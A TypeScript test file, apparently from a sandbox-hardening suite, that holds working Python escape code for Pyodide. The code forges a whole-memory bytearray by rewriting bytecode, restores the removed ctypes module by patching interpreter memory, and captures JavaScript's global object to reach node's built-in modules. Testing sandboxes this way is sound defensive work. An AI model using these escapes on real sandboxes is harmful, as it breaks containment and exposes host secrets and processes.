/**
 * One attempt to break out, as a Python program. In the code these words stand for what is planted:
 * `@FILE@` a file with a secret, `@FOLDER@` its folder, `@MARK@` a path that must not come to exist,
 * `@VARIABLE@` the name of an environment variable with a secret, `@PORT@` a listener on 127.0.0.1,
 * `@PID@` a process that must live on.
 */
export interface Attack {
  name: string
  code: string
  /** Shows that the attack works where nothing is contained, or says why it cannot work there. */
  control: Control
}

export type Control =
  /** The same code, or the given variant of it, succeeds in Pyodide as it comes. */
  | { stock: true | string; crashes?: true }
  /** Why Pyodide as it comes cannot show it. */
  | { none: string }

/** What a program can be told beforehand; each helper says what it needs. */
export const lines = (...code: string[]) => code.join('\n')

/** `whole_memory()`: a constant that lies beyond the constants of its code is a forged bytearray. */
export const wholeMemory = `
def whole_memory():
    import opcode, struct
    fake = struct.pack('<IIiiIII', 1000, id(bytearray), 0x7fffffff, 0x7fffffff, 0, 0, 0)
    holder = struct.pack('<I', id(fake) + 16)
    def victim(): return 'constant'
    code = victim.__code__
    place = (id(holder) + 16 - id(code.co_consts) - 16 >> 2) & 0x3fffffff
    names = opcode.opmap
    steps = [(names['RESUME'], 0)]
    steps += [(names['EXTENDED_ARG'], place >> shift & 255) for shift in (24, 16, 8)]
    steps += [(names['LOAD_CONST'], place & 255), (names['RETURN_VALUE'], 0)]
    victim.__code__ = code.replace(co_code=bytes(part for step in steps for part in step))
    return victim(), (fake, holder)
`

/**
 * Brings foreign functions (ctypes) back where the sandbox has taken them out of the list of built-in
 * modules, which is in the interpreter's memory.
 */
const bringForeignBack = `${wholeMemory}
def bring_back():
    import sys
    memory, kept = whole_memory()
    for name in b'_ctypes', b'_pyodide_core':
        at = 1024
        while (at := memory.find(b'\\0' + name[1:] + b'\\0', at + 1, 0xe80000)) > 0:
            memory[at] = name[0]
        sys.modules.pop(name.decode(), None)
    sys.modules.pop('ctypes', None)
try: import ctypes
except ImportError: bring_back()
`

/** The program, with foreign functions where it uses them. */
export const armed = (code: string) => (code.includes('ctypes') ? bringForeignBack + code : code)

/**
 * Binds `world` to JavaScript's global object: by `import js` where there is one, else by bringing
 * back what the sandbox took out (the list of built-in modules, Pyodide's JavaScript half), and then
 * catching the global object in a getter on `Object.prototype`.
 */
export const reachJavaScript = `
import ctypes, sys
def reach():
    try:
        import js
        return js
    except ImportError:
        pass
    api = ctypes.pythonapi
    entry = ctypes.c_void_p.in_dll(api, 'PyImport_Inittab').value
    while name := ctypes.c_void_p.from_address(entry).value:
        if ctypes.string_at(name) == b'':
            ctypes.memset(name, ord('_'), 1)
        entry += 8
    for name in '_pyodide_core', '_pyodide', 'pyodide', 'js', 'pyodide_js':
        sys.modules.pop(name, None)
    api.pyodide_js_init()
    import _pyodide_core as core
    function = core.create_once_callable(lambda: 1).constructor
    thing = function.prototype.__proto__.constructor
    caught = []
    def getter(this):
        caught.append(this)
        return 1
    trap = thing.new()
    trap.get = core.create_proxy(getter, capture_this=True)
    thing.defineProperty(thing.prototype, 'devicePixelRatio', trap)
    api.emscripten_get_device_pixel_ratio()
    return caught[0]
world = reach()
node = world.process.getBuiltinModule
`
